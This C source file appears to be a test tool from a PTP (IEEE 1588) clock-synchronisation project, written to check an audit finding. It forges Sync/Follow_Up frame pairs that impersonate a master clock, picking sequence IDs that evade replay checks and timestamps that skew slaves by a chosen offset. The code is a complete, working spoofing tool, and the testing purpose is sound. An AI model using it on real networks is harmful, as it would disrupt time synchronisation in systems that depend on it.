// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Test tool: forged Sync/Follow_Up pairs as a slave's parent (issue 17, finding 5). Every 1/RATE s
 * a two-step Sync and its Follow_Up from PARENT (16 hex digits) port PORT, with a sequenceId far
 * from the master's (a slave takes it as a restarted sender, and the master's next Sync too), and
 * a preciseOriginTimestamp of CLOCK_REALTIME now +OFFSET_NS and -OFFSET_NS in turn: offsets that a
 * slave on the same clock measures as +-OFFSET_NS outliers. Without authentication (IEEE 1588-2019
 * 16.14) no slave can tell such a pair from the master's.
 *
 *   tool-forge-sync IFNAME PARENT PORT RATE SECONDS OFFSET_NS   (prints sent=N)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "ptp/msg.h"

static int send_msg(int fd, int ifindex, struct msg *m)
{
	static const uint8_t ptp_mac[6] = { 0x01, 0x1B, 0x19, 0x00, 0x00, 0x00 };
	struct sockaddr_ll to = { .sll_family = AF_PACKET,
				  .sll_protocol = htons(ETH_P_1588),
				  .sll_ifindex = ifindex,
				  .sll_halen = 6 };
	uint8_t frame[14 + 256];
	ssize_t len = msg_build(m, frame + 14, sizeof(frame) - 14);

	if (len < 0) {
		return (int) len;
	}
	memcpy(frame, ptp_mac, 6);
	memcpy(frame + 6, "\x02\x00\x00\x00\x00\x05", 6);
	frame[12] = ETH_P_1588 >> 8;
	frame[13] = ETH_P_1588 & 0xFF;
	memcpy(to.sll_addr, ptp_mac, 6);
	return sendto(fd, frame, 14 + (size_t) len, 0, (struct sockaddr *) &to, sizeof(to)) < 0
		       ? -errno
		       : 0;
}

int main(int argc, char **argv)
{
	struct PortIdentity parent = { 0 };
	struct sockaddr_ll sll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_1588) };
	double rate, seconds;
	int64_t offset;
	uint64_t sent = 0;
	uint16_t seq = 20000;
	int fd, ifindex;

	if (argc != 7 || strlen(argv[2]) != 16) {
		fprintf(stderr,
			"usage: tool-forge-sync IFNAME PARENT PORT RATE SECONDS OFFSET_NS\n");
		return 2;
	}
	for (int i = 0; i < 8; i++) {
		unsigned v;

		if (sscanf(argv[2] + 2 * i, "%2x", &v) != 1) {
			return 2;
		}
		parent.clockIdentity.id[i] = (uint8_t) v;
	}
	parent.portNumber = (uint16_t) atoi(argv[3]);
	rate = atof(argv[4]);
	seconds = atof(argv[5]);
	offset = strtoll(argv[6], NULL, 10);
	ifindex = (int) if_nametoindex(argv[1]);
	fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_1588));
	if (!ifindex || fd < 0 || !(rate > 0)) {
		fprintf(stderr, "tool-forge-sync: %s: %s\n", argv[1], strerror(errno));
		return 1;
	}
	sll.sll_ifindex = ifindex;
	if (bind(fd, (struct sockaddr *) &sll, sizeof(sll)) < 0) {
		perror("tool-forge-sync: bind");
		return 1;
	}
	for (double t = 0; t < seconds; t += 1.0 / rate) {
		struct timespec now;
		struct msg m;
		int64_t t1;

		memset(&m, 0, sizeof(m));
		msg_header_init(&m.hdr, MSG_SYNC, 0, &parent, seq);
		m.hdr.flagField = MSG_FLAG_TWO_STEP;
		m.hdr.logMessageInterval = -3;
		clock_gettime(CLOCK_REALTIME, &now);
		t1 = (int64_t) now.tv_sec * 1000000000 + now.tv_nsec +
		     (sent % 2 ? -offset : offset);
		if (send_msg(fd, ifindex, &m) < 0) {
			perror("tool-forge-sync: send");
			return 1;
		}
		memset(&m, 0, sizeof(m));
		msg_header_init(&m.hdr, MSG_FOLLOW_UP, 0, &parent, seq);
		m.hdr.logMessageInterval = -3;
		m.body.follow_up.preciseOriginTimestamp.secondsField = (uint64_t) (t1 /
										   1000000000) &
								       0xFFFFFFFFFFFFULL;
		m.body.follow_up.preciseOriginTimestamp.nanosecondsField = (uint32_t) (t1 %
										       1000000000);
		if (send_msg(fd, ifindex, &m) < 0) {
			perror("tool-forge-sync: send");
			return 1;
		}
		sent++;
		/* far from the master's sequence: never a duplicate, never within replay range */
		seq = (uint16_t) (seq + 1 + (sent % 2) * 30000);
		usleep((useconds_t) (1e6 / rate));
	}
	printf("sent=%" PRIu64 "\n", sent);
	return 0;
}
